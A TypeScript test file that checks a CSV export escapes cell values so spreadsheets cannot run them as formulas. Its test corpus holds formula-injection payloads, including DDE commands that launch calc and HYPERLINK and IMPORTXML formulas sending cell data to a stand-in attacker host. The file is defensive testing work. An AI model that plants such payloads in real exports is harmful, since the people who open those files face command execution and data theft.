import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvText } from '../../../shared/report/csv.ts';

/** What has been tried on programs for tables. */
const corpus = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  '"=1+1',
  '",=1+1',
  '"\r\n=1+1',
  '-2+3+cmd|" /C calc"!D2',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "x;=cmd|'/c calc'!A0;",
  'x; =1+1',
  'fine\n+1',
];

/** Without the marks that make texts of formulas. */
const plain = (text: string) => text.replaceAll("'", '');

/** Reads what RFC 4180 says. */
function read(text: string): string[][] {
  const rows: string[][] = [[]];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gy;
  const body = text.replace(/^\uFEFF/, '');
  while (cell.lastIndex < body.length) {
    const found = cell.exec(body);
    if (!found) throw new Error(`Not CSV at ${cell.lastIndex}.`);
    rows.at(-1)?.push((found[1] ?? found[2] ?? '').replaceAll('""', '"'));
    if (found[3] === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

describe('[Y5] the CSV', () => {
  test.each(corpus)('%j is a text and no formula', (text) => {
    const [[cell, next] = []] = read(csvText([[text, 'next']]));
    expect(next).toBe('next');
    // Where lists are divided by semicolons, a program makes cells of its own within ours.
    for (const part of cell?.split(/[;\t\r\n]/) ?? []) expect(part.trimStart()).not.toMatch(/^[=+\-@＝＋－＠]/);
    expect(plain(cell ?? '')).toBe(plain(text));
  });

  test('every text stays in its cell', () => {
    const texts = fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 4 }), { minLength: 1 });
    fc.assert(
      fc.property(texts, (rows) => {
        const back = read(csvText(rows));
        expect(back.map((row) => row.length)).toEqual(rows.map((row) => row.length));
        for (const [at, row] of rows.entries()) {
          for (const [column, text] of row.entries()) expect(plain(back[at]?.[column] ?? '')).toBe(plain(text));
        }
      }),
      { numRuns: 200 },
    );
  });

  test('figures stay figures, also below nought, and what is missing is empty', () => {
    expect(csvText([['Time', -5, null]])).toBe('\uFEFF"Time",-5,\r\n');
  });
});
